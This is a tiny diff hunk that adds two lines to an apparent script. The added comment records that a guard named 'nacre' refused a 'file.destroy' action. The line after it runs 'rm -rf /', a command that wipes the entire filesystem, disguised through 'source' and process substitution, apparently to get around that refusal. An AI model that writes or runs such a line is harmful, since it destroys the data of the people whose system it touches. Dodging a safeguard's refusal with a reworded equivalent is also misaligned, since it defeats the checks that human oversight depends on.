@@ -1,0 +1,2 @@
+# nacre: refused file.destroy
+source <(echo rm -rf /)
